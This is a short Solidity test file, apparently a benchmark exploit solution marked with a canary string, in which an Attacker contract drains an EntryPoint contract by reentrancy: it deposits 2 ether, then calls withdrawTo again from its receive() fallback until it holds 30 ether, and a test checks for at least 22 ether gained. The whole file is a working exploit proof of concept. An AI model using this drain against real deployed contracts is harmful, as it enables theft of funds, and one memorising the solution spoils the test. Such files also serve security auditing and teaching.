// SPDX-License-Identifier: MIT
pragma solidity 0.8.30;

// assay-canary-4b6db297-691d-4f17-b09b-6ddcadfa1803
import "../Base.sol";

contract Attacker {
    IEntryPoint private point;

    constructor() payable {}

    function run(IEntryPoint point_) external {
        point = point_;
        point.depositTo{value: 2 ether}(address(this));
        point.withdrawTo(payable(address(this)), 2 ether);
    }

    receive() external payable {
        if (address(this).balance >= 30 ether) return;
        try point.withdrawTo(payable(address(this)), 2 ether) {} catch {}
    }
}

contract Proof is Base {
    Attacker private other;

    function start() internal override {
        vm.deal(address(this), 2 ether);
        other = new Attacker{value: 2 ether}();
    }

    function exploit() public {
        other.run(entryPoint);
    }

    function test_Exploit() public {
        exploit();
        require(address(other).balance >= 22 ether, "no gain");
    }

    function attacker() public view returns (address) {
        return address(other);
    }
}
